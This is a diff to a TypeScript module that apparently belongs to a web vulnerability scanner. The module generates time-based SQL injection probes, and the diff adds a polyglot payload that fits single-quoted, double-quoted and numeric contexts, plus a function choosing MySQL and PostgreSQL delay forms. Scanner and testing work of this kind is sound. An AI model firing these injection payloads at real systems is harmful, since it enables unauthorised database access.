@@ -34,6 +34,12 @@ const stacked =
   (value, statement) =>
     `${value}${end} AND 1=0;${statement}--`;
 
+/** Fits a text in either kind of quotes, and with a value that is a number also a number: one request instead of three. */
+const COMBINED: Context = (value, condition) =>
+  NUMBER.test(value)
+    ? `${value} AND ${condition}/*' AND ${condition} AND '1'<>'1" AND ${condition} AND "1"<>"1*/`
+    : `${value}' AND ${condition} AND '1'<>'1" AND ${condition} AND "1"<>"1`;
+
 /** Each delay is evaluated once for a statement, not once for a row. */
 const MYSQL: Database = {
   name: 'MySQL',
@@ -80,6 +86,17 @@ export function delaysFor({ name, value, url }: InjectionPoint): readonly DelayF
       database,
       value: (amount: number) => context(value, database.delay(amount)),
     }));
+  });
+}
+
+/** The forms for the standard profile: one or two requests for the databases that are used most. */
+export function fewDelaysFor({ name, value, url }: InjectionPoint): readonly DelayForm[] {
+  const isSorting = SORTS.test(name) || /^(?:asc|desc)$/i.test(value);
+  const databases = databasesFor(url).filter((one) => one === MYSQL || one === POSTGRES);
+  return databases.slice(0, /\.php\b/i.test(new URL(url).pathname) ? 1 : 2).map((database) => {
+    const [first = COMBINED] = NUMBER.test(value) ? database.numbers : database.texts;
+    const context = isSorting ? LISTED : database === MYSQL ? COMBINED : first;
+    return { database, value: (amount: number) => context(value, database.delay(amount)) };
   });
 }
 
